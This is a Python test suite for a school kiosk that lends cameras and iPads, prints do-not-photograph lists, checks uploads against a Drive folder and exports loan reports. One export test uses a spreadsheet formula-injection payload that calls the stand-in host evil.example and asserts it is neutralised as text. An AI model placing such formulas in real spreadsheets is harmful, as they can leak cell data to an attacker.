"""School cameras and iPads at the kiosk: lend by scanning (with the do-not-photograph list), return, confirm the
upload against a real Drive folder; and the leadership's review screen."""

from __future__ import annotations

import csv
import re
import shutil
from datetime import date, datetime, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select
from textual.widgets import DataTable, Input

from db import demo, devices
from db.core import COMMAND_LINE, open_database, sqlite_url
from db.core.models import Pupil
from db.records import verify as verify_chain
from kiosk.print_queue import PRINTED
from kiosk.review_days import parse_days
from kiosk.screens.device import DeviceScreen
from kiosk.screens.devices_review import DevicesReviewScreen
from kiosk.screens.scan import ScanScreen
from kiosk.theme import NOTE_BADGE as AMBER
from kiosk.theme import REFUSED_BADGE as RED
from tests.conftest import LONDON
from tests.photos import ipad, personal_phone, photo
from tests.tui.helpers import build_app, device_tag, on_screen, panel, scan, settle, signed_in

AIR = dict(make="Apple", model="iPad Air (5th generation)")  # the demo school's IPAD-03


def at(clock, day: int, hour: int, minute: int = 0) -> None:
    clock.moment = datetime(2026, 11, day, hour, minute, tzinfo=LONDON).astimezone(timezone.utc)


def surnames(database, pupil_ids) -> set[str]:
    with database.reading() as session:
        return {session.get(Pupil, pupil_id).surname for pupil_id in pupil_ids}


@pytest.mark.both_backends
async def test_a_teacher_lends_returns_and_confirms_the_upload_by_scanning(school, clock, tmp_path):
    drive = tmp_path / "Drive"
    for n in range(3):  # taken on IPAD-03 during the loan (08:55 to 15:00, GMT in November)
        photo(drive / "6A trip" / f"IMG_000{n}.JPG", taken=datetime(2026, 11, 10, 10, 15 + n), **AIR)
    personal_phone(drive / "6A trip" / "from my phone.jpg", datetime(2026, 11, 10, 11, 0))
    (drive / "6A trip" / "names.txt").write_text("not a photo", encoding="utf-8")
    code = device_tag(school, "IPAD-03")
    app = build_app(school, printer=f"file:{tmp_path / 'slip.prn'}", drive_folder=str(drive))
    async with app.run_test(size=(120, 36)) as pilot:
        await signed_in(pilot, "HBR", "1234")

        # 08:55: the tag on iPad 3 is scanned; the kiosk offers to lend it, for the teacher's own class.
        await scan(pilot, code)
        screen = app.screen
        assert isinstance(screen, DeviceScreen)
        assert "IPAD-03 iPad 3 · Apple iPad Air (5th generation) · tag " + code in on_screen(app)
        assert panel(pilot).text.startswith("Lend iPad 3")
        assert screen.query_one("#class", Input).value == "6A"
        await pilot.click("#purpose-0")  # "Trip": lends at once
        await settle(pilot)

        [loan] = devices.loans_report(school, by=COMMAND_LINE)
        assert (loan.device, loan.staff, loan.class_name, loan.purpose, loan.status) == (
            "IPAD-03 iPad 3", "Hannah Brooks", "6A", "Trip", "out")
        shown = on_screen(app)
        assert panel(pilot).mood == "-done" and "To you, Hannah Brooks, for “Trip” at 08:55" in panel(pilot).text
        listing = devices.do_not_photograph(school, "6A")
        assert listing.pupils, "the demo school's 6A has pupils without photo consent"
        assert f"Do not photograph in 6A: {len(listing.pupils)} pupils of {listing.on_roll}" in shown
        for pupil in listing.pupils:  # short names and what is refused, side by side
            assert re.search(rf"█ {re.escape(pupil.short_name)} +{re.escape(pupil.refused_text)} ", shown)
        for surname in surnames(school, [p.pupil_id for p in listing.pupils]):  # R5: no full surnames
            assert surname not in shown
        assert "The list is printing on the slip printer" in shown
        [job] = app.print_queue.jobs()
        assert (job.title, job.state) == (f"Do not photograph: 6A ({len(listing.pupils)})", PRINTED)
        assert (tmp_path / "slip.prn").stat().st_size > 0

        await pilot.press("escape")
        assert isinstance(app.screen, ScanScreen)
        assert "IPAD-03 iPad 3 lent to Hannah Brooks for 6A at 08:55." in panel(pilot).text

        # 15:00, home-time mode: the same tag says it is out, and takes it back with the number of images.
        at(clock, 10, 15)
        await pilot.press("f6")
        await scan(pilot, code)
        assert isinstance(app.screen, DeviceScreen)
        assert "With you for 6A (Trip) since 08:55 today." in panel(pilot).text
        await pilot.press("3", "enter")
        await settle(pilot)
        assert devices.device_info(school, code).status == "upload outstanding"
        assert devices.loans_report(school, by=COMMAND_LINE)[0].images == 3
        assert "3 images recorded. Upload them to the school Drive" in panel(pilot).text

        # The photos are on the Drive already: confirm now, against the folder from the settings.
        await pilot.click("#upload-now")
        assert app.screen.query_one("#folder", Input).value == str(drive)
        await pilot.click("#wiped")
        await pilot.click("#confirm")
        await settle(pilot)
        # All three found, but amber: the phone photo was taken during the loan, and the teacher is told.
        assert panel(pilot).mood == "-note"
        assert panel(pilot).text.startswith("3 of 3 on the Drive")
        assert f"3 images from this loan found in {drive} (5 files read)" in panel(pilot).text
        assert ("1 image in the folder was taken during the loan on a device the school has not registered, such as "
                "a personal phone: pupils may be photographed only on school devices.") in panel(pilot).text
        # The folder was read in a worker whose progress reports drove the line above the bar.
        assert str(app.screen.query_one("#progress-text").content) == (
            "Reading the Drive folder: 5 files looked at, 4 images so far.")
        assert "1 file in the folder could not be checked:" in on_screen(app)
        assert "6A trip/names.txt: not an image" in on_screen(app)
    [loan] = devices.loans_report(school, by=COMMAND_LINE)
    assert (loan.images, loan.verified, loan.wiped, loan.uploaded_by, loan.status) == (
        3, 3, True, "Hannah Brooks", "verified")


async def test_a_lend_refused_at_the_last_moment_is_red_and_an_upload_can_be_confirmed_unverified(school, clock):
    code = device_tag(school, "IPAD-02")
    app = build_app(school)
    async with app.run_test(size=(120, 36)) as pilot:
        await signed_in(pilot, "HBR", "1234")
        await scan(pilot, code)
        assert panel(pilot).text.startswith("Lend iPad 2")
        # Meanwhile, at another kiosk, Lucy Patel borrows it and brings it back with 2 photos not yet uploaded.
        devices.lend_device(school, code, "LPA", "4B", "Science")
        clock.advance(minutes=30)
        devices.return_device(school, code, "LPA", 2)
        await pilot.click("#purpose-1")  # "PE"
        await settle(pilot)
        shown = panel(pilot)
        assert shown.mood == "-refused" and shown.text.startswith("Not lent")
        assert ("IPAD-02 iPad 2 still holds 2 images from Lucy Patel's loan for 4B (08:55 today) that are not "
                "confirmed uploaded to the Drive: confirm the upload before lending it again.") in shown.text
        assert app.chimes.count("refused") == 1
        assert [loan.staff for loan in devices.loans_report(school, by=COMMAND_LINE)] == ["Lucy Patel"]

        # Scanned again it says what is outstanding (amber) and offers the confirmation; no folder: unverified.
        await pilot.press("escape")
        await scan(pilot, code)
        assert panel(pilot).mood == "-note" and panel(pilot).text.startswith("Upload to confirm")
        assert app.screen.query_one("#folder", Input).value == ""
        assert "Confirm without a check" in on_screen(app)
        await pilot.click("#confirm")
        await settle(pilot)
        assert panel(pilot).mood == "-note" and panel(pilot).text.startswith("Upload recorded")
        assert "unverified (no folder was checked). It can be lent again." in panel(pilot).text
    [loan] = devices.loans_report(school, by=COMMAND_LINE)
    assert (loan.status, loan.uploaded_by, loan.verified) == ("unverified", "Hannah Brooks", None)


async def test_a_missing_drive_folder_is_refused_in_red_and_a_stopped_check_records_nothing(school, clock, tmp_path):
    code = device_tag(school, "CAM-01")
    devices.lend_device(school, code, "HBR", "6A", "Trip")
    clock.advance(hours=2)
    devices.return_device(school, code, "HBR", 4)
    app = build_app(school, drive_folder=str(tmp_path / "not synced yet"))
    async with app.run_test(size=(80, 24)) as pilot:
        await signed_in(pilot, "HBR", "1234")
        await scan(pilot, code)
        await pilot.press("enter")  # the folder from the settings, as it is
        await settle(pilot)
        assert panel(pilot).mood == "-refused"
        assert f"There is no folder at {tmp_path / 'not synced yet'}" in panel(pilot).text
        assert app.chimes.count("refused") == 1
        assert app.focused is app.screen.query_one("#folder")  # fix the path and press Enter again

        # The right folder this time, but Stop is pressed as soon as the check starts.
        for n in range(4):
            photo(tmp_path / "Drive" / f"IMG_{n}.JPG", make="Canon", model="Canon IXUS 185", serial="183052001234",
                  taken=datetime(2026, 11, 10, 9, 30 + n))
        screen = app.screen
        screen.query_one("#folder", Input).value = str(tmp_path / "Drive")
        screen.confirm_pressed()
        assert screen.query_one("#steps").current == "checking"
        screen.stop_pressed()
        await settle(pilot)
        assert panel(pilot).mood == "-note" and panel(pilot).text == (
            "Check stopped\nThe check of the Drive folder was stopped: nothing was recorded.")
        assert screen.query_one("#steps").current == "upload"
    assert devices.device_info(school, code).status == "upload outstanding"


def history(school, clock, tmp_path) -> None:
    """Last week a verified trip; this week a camera back with its upload outstanding and an iPad not back."""
    school.clock_checked = False  # last week, written after this morning's demo rows
    at(clock, 2, 10)
    devices.lend_device(school, "IPAD-01", "LPA", "4B", "Trip to the farm")
    at(clock, 2, 12)
    devices.return_device(school, "IPAD-01", "LPA", 5)
    for n in range(5):
        ipad(tmp_path / "Drive" / f"farm{n}.jpg", datetime(2026, 11, 2, 10, 30 + n))
    devices.confirm_upload(school, "IPAD-01", "LPA", folder=tmp_path / "Drive", wiped=True)
    at(clock, 9, 13)
    devices.lend_device(school, "IPAD-02", "DOK", "6B", "PE")
    at(clock, 10, 9)
    devices.lend_device(school, "CAM-01", "HBR", "6A", "Class photos")
    at(clock, 10, 11)
    devices.return_device(school, "CAM-01", "HBR", 4)
    at(clock, 10, 14)


def table_rows(app) -> list[list[str]]:
    table = app.screen.query_one("#loans", DataTable)
    return [[str(cell) for cell in table.get_row_at(i)] for i in range(table.row_count)]


async def test_the_review_is_for_slt_and_shows_loans_outstanding_work_a_chart_and_exports(
        school, clock, tmp_path, monkeypatch):
    history(school, clock, tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home" / "Documents").mkdir(parents=True)
    app = build_app(school)
    async with app.run_test(size=(120, 36)) as pilot:
        # Office staff: not in their footer (a class teacher's F11 is "Not in yet": tests/tui/test_morning_after.py).
        await signed_in(pilot, "MJO", "4567")
        assert "F11" not in on_screen(app)
        await pilot.press("f11")
        assert isinstance(app.screen, ScanScreen)
        assert panel(pilot).mood == "-note"  # explained in amber, not refused: nothing went wrong
        assert "for the leadership team" in panel(pilot).text and "refused" not in app.chimes

        app.sign_out("Maria Jones signed out.")
        await signed_in(pilot, "HTE", "5678")
        assert "F11 Review" in on_screen(app)
        await pilot.press("f11")
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, DevicesReviewScreen)
        shown = on_screen(app)
        assert "Loans this week, 9–15 Nov 2026: 2 loans, 4 images taken, 0 on the Drive" in shown
        assert "Now: 1 device out   1 upload outstanding    1 not back by the end of the day" in shown
        rows = table_rows(app)
        assert [(r[0], r[2], r[3], r[4], r[1].strip()) for r in rows] == [
            ("IPAD-02", "David O.", "6B", "Mon 13:00", "not back"),
            ("CAM-01", "Hannah B.", "6A", "Tue 09:00", "upload outstanding")]
        table = screen.query_one("#loans", DataTable)
        assert table.get_row_at(0)[1].style == RED and table.get_row_at(1)[1].style == AMBER
        # The chart: ten weeks to this one, last week's five images taken and found.
        assert [(w.monday, w.images, w.verified) for w in screen.weeks[-2:]] == [
            (date(2026, 11, 2), 5, 5), (date(2026, 11, 9), 4, 0)]
        assert len(screen.weeks) == 10
        assert "found on the Drive" in shown and "2 Nov" in shown and "9 Nov" in shown

        await pilot.press("p")  # the week before
        await settle(pilot)
        assert "Loans the week of 2–8 Nov 2026: 1 loan, 5 images taken, 5 on the Drive" in on_screen(app)
        assert [(r[0], r[5], r[1], r[8]) for r in table_rows(app)] == [("IPAD-01", "12:00", "verified",
                                                                        "Lucy P. 12:00")]

        await pilot.press("n", "e")
        await settle(pilot)
        path = tmp_path / "home" / "Documents" / "device-loans-2026-11-09-to-2026-11-15.csv"
        assert str(screen.query_one("#message").content) == (
            f"Saved 2 loans to {path} (open it with Excel or Google Sheets).")
    with path.open(encoding="utf-8-sig", newline="") as saved:
        rows = list(csv.reader(saved))
    assert rows[0] == ["device", "staff", "class", "purpose", "out", "returned", "images", "verified", "uploaded_by",
                       "uploaded_at", "wiped", "status"]
    assert [(r[0], r[2], r[11]) for r in rows[1:]] == [("IPAD-02 iPad 2", "6B", "not back"),
                                                       ("CAM-01 Class camera 1", "6A", "upload outstanding")]


@given(st.dates(date(2000, 1, 1), date(2099, 12, 31)), st.dates(date(2000, 1, 1), date(2099, 12, 31)),
       st.sampled_from(("%Y-%m-%d", "%d/%m/%Y")), st.sampled_from((" ", " to ", " – ", "  - ")))
def test_the_days_typed_for_the_review_read_back_in_order(first, last, form, between):
    typed = f"{first.strftime(form)}{between}{last.strftime(form)}"
    assert parse_days(typed) == (min(first, last), max(first, last))
    assert parse_days(f" {first.strftime(form)} ") == (first, first)


async def test_an_office_lend_typed_at_80_by_24_for_a_class_everyone_may_photograph(school, tmp_path):
    from db.devices import import_consent

    with school.reading() as session:
        upns = session.exec(select(Pupil.upn).where(Pupil.class_name == "3C")).all()
    forms = tmp_path / "consent.csv"
    forms.write_text("UPN,Photos in school,Website,Social Media,Press\n" + "".join(f"{upn},Yes,Yes,Yes,Yes\n"
                                                                                   for upn in upns), encoding="utf-8")
    import_consent(school, forms, by=COMMAND_LINE)
    app = build_app(school)
    async with app.run_test(size=(80, 24)) as pilot:
        await signed_in(pilot, "MJO", "4567")  # office staff have no class: it is asked first
        await scan(pilot, device_tag(school, "CAM-01"))
        assert app.focused is app.screen.query_one("#class")
        await pilot.press("3", "c", "enter", *"Harvest festival", "enter")
        await settle(pilot)
        shown = on_screen(app)
        assert "Everyone in 3C may be photographed." in shown
        assert "No slip printed: this kiosk has no printer set up." in shown
    [loan] = devices.loans_report(school, by=COMMAND_LINE)
    assert (loan.device, loan.staff, loan.class_name, loan.purpose) == (
        "CAM-01 Class camera 1", "Maria Jones", "3C", "Harvest festival")


async def test_the_export_opens_in_excel_as_text_and_the_review_shows_the_year_of_last_school_years_loans(
        school, clock, tmp_path, monkeypatch):
    """Spreadsheets out: a purpose typed as a formula is text in the saved file, which starts with a byte-order mark
    (Excel reads Zoë right), times to the second; looking back from the next school year, times show their year."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home" / "Documents").mkdir(parents=True)
    link = '=HYPERLINK("http://evil.example/?"&A1,"Photos")'
    clock.moment = datetime(2026, 11, 10, 9, 0, 12, 345678, tzinfo=LONDON)
    devices.lend_device(school, "IPAD-01", "LPA", "4B", link)
    at(clock, 10, 11)
    devices.return_device(school, "IPAD-01", "LPA", 0)
    clock.moment = datetime(2027, 9, 7, 9, 0, tzinfo=LONDON)  # a Tuesday in the next school year
    app = build_app(school)
    async with app.run_test(size=(120, 36)) as pilot:
        await signed_in(pilot, "HTE", "5678")
        await pilot.press("f11")
        await settle(pilot)
        await pilot.press("d")
        await pilot.press(*"09/11/2026 15/11/2026", "enter")
        await settle(pilot)
        assert "Loans the week of 9–15 Nov 2026: 1 loan" in on_screen(app)
        await pilot.press("d")
        await pilot.press(*"01/11/2026 30/11/2026", "enter")  # more than a week: the day, and here the year
        await settle(pilot)
        [row] = table_rows(app)
        assert (row[0], row[4], row[5]) == ("IPAD-01", "10 Nov 2026 09:00", "11:00")
        await pilot.press("e")
        await settle(pilot)
    path = tmp_path / "home" / "Documents" / "device-loans-2026-11-01-to-2026-11-30.csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfdevice,staff,class,purpose,out,")
    with path.open(encoding="utf-8-sig", newline="") as saved:
        [loan] = csv.DictReader(saved)
    assert loan["purpose"] == f"'{link}" and loan["out"] == "2026-11-10T09:00:12+00:00"
    assert (loan["returned"], loan["images"], loan["status"]) == ("2026-11-10T11:00:00+00:00", "0", "no images")


async def test_fewer_found_than_claimed_waits_for_a_decision_look_again_or_a_reason(school, clock, tmp_path):
    from kiosk.screens.ask import AskScreen

    drive = tmp_path / "Drive"
    for n in range(35):  # 37 claimed, 35 on the Drive
        photo(drive / "6A" / f"IMG_{n:04}.JPG", taken=datetime(2026, 11, 10, 10, 0, n), **AIR)
    code = device_tag(school, "IPAD-03")
    devices.lend_device(school, code, "HBR", "6A", "Science")
    at(clock, 10, 15)
    devices.return_device(school, code, "HBR", 37)
    app = build_app(school, drive_folder=str(drive))
    async with app.run_test(size=(120, 36)) as pilot:
        await signed_in(pilot, "HBR", "1234")
        await scan(pilot, code)
        assert isinstance(app.screen, DeviceScreen)
        await pilot.click("#confirm")
        await settle(pilot)
        # Not "Confirmed … it can be lent again": a question, and nothing recorded yet.
        assert isinstance(app.screen, AskScreen)
        assert app.screen.question.startswith("Only 35 of the 37 images claimed were found in the folder.")
        assert "press Escape: the upload stays outstanding" in app.screen.question
        assert devices.device_info(school, code).status == "upload outstanding"
        assert [loan.device for loan in devices.outstanding_uploads(school, by="HTE")] == ["IPAD-03 iPad 3"]

        await pilot.press("escape")  # look again later
        await settle(pilot)
        assert isinstance(app.screen, DeviceScreen)
        assert panel(pilot).mood == "-note" and panel(pilot).text.startswith("Not confirmed: look again")
        assert "the upload is still outstanding" in panel(pilot).text
        assert "can be lent again" not in on_screen(app)
        assert len(devices.outstanding_uploads(school, by="HTE")) == 1

        await pilot.click("#confirm")  # looked again: still 35, so confirm with a reason
        await settle(pilot)
        assert isinstance(app.screen, AskScreen)
        await pilot.press(*"2 photos of the floor deleted", "enter")
        await settle(pilot)
        assert isinstance(app.screen, DeviceScreen)
        shown = panel(pilot)
        assert shown.mood == "-note" and shown.text.startswith("35 of 37 on the Drive")
        assert "Confirmed with the reason: 2 photos of the floor deleted." in shown.text
        assert "It can be lent again." in shown.text
    assert devices.outstanding_uploads(school, by="HTE") == []
    [loan] = devices.loans_report(school, by=COMMAND_LINE)
    assert (loan.images, loan.verified, loan.status, loan.uploaded_by) == (37, 35, "fewer found", "Hannah Brooks")


async def test_the_lending_form_keeps_what_was_typed_and_enter_goes_on_to_the_upload(school, clock, tmp_path):
    from textual import events
    from textual.keys import _character_to_key
    from textual.widgets import Button

    code = device_tag(school, "IPAD-03")
    app = build_app(school)
    async with app.run_test(size=(120, 36)) as pilot:
        await signed_in(pilot, "HBR", "1234")
        await scan(pilot, code)
        screen = app.screen
        assert isinstance(screen, DeviceScreen)
        assert screen.focused is screen.query_one("#purpose", Input)  # the class is 6A already: "What for" next
        # Before anything is lent, nothing says it is lent.
        assert "Nothing is lent yet" in panel(pilot).text and "It is lent" not in panel(pilot).text
        assert "will be lent to you, Hannah Brooks" in panel(pilot).text
        await pilot.press("tab")  # the focus goes to the "Trip" button …
        assert isinstance(screen.focused, Button) and str(screen.focused.label) == "Trip"
        purpose = "Science – photos of our bean plants"
        for ch in purpose:  # … and what is typed still goes into "What for" (keys as a terminal sends them: Pilot
            # cannot press "–" with its character)
            app._driver.send_message(events.Key(ch if ch.isalnum() else _character_to_key(ch), ch))
            await pilot.pause()
        assert screen.query_one("#purpose", Input).value == purpose
        await pilot.press("enter")
        await settle(pilot)
        [loan] = devices.loans_report(school, by=COMMAND_LINE)
        assert (loan.purpose, loan.class_name) == (purpose, "6A")
        assert f"To you, Hannah Brooks, for “{purpose}” at 08:55" in panel(pilot).text

        await pilot.press("escape")
        at(clock, 10, 15)
        await scan(pilot, code)
        await pilot.press("4", "enter")
        await settle(pilot)
        assert "4 images recorded" in panel(pilot).text
        assert app.screen.focused is app.screen.query_one("#upload-now", Button)
        await pilot.press("enter")  # on to "Confirm the upload now", not back to scanning
        await settle(pilot)
        assert isinstance(app.screen, DeviceScreen)
        assert app.screen.query_one("#steps").current == "upload"
        assert app.screen.focused is app.screen.query_one("#folder", Input)


async def test_the_demo_schools_loans_fill_the_review_for_the_leadership_team(template_db, tmp_path, clock):
    # What `kiosk demo` fills: six school weeks of loans counted back from this Tuesday morning.
    shutil.copy(template_db, tmp_path / "demo.db")
    clock.set_local(8, 55)
    school = open_database(sqlite_url(tmp_path / "demo.db"), clock=clock, kiosk_name="test-kiosk")
    demo.fill(school, drive=tmp_path / "demo-drive")
    assert all(loan.out.weekday() < 5 for loan in devices.loans_report(school, date(2026, 9, 1), by="HTE"))
    app = build_app(school)
    async with app.run_test(size=(120, 36)) as pilot:
        await signed_in(pilot, "HTE", "5678")
        await pilot.press("f11")
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, DevicesReviewScreen)
        shown = on_screen(app)
        # Monday's library trip (upload outstanding) and the iPad lent this morning for PE.
        assert "Loans this week, 9–15 Nov 2026: 2 loans, 16 images taken, 0 on the Drive" in shown
        assert "Now: 1 device out   1 upload outstanding" in shown
        assert [(r[0], r[1].strip()) for r in table_rows(app)] == [("IPAD-03", "upload outstanding"),
                                                                     ("IPAD-02", "out")]
        assert sum(w.loans for w in screen.weeks) >= 10 and sum(w.verified for w in screen.weeks) == 4
        await pilot.press("p", "p")  # the week of 26 Oct: gymnastics, and class photos checked on the Drive
        await settle(pilot)
        assert "Loans the week of 26 Oct–1 Nov 2026: 2 loans, 25 images taken, 4 on the Drive" in on_screen(app)
        assert [(r[0], r[1].strip()) for r in table_rows(app)] == [("IPAD-03", "unverified"), ("CAM-01", "verified")]
    assert verify_chain(school, by=COMMAND_LINE) > 0
    school.engine.dispose()
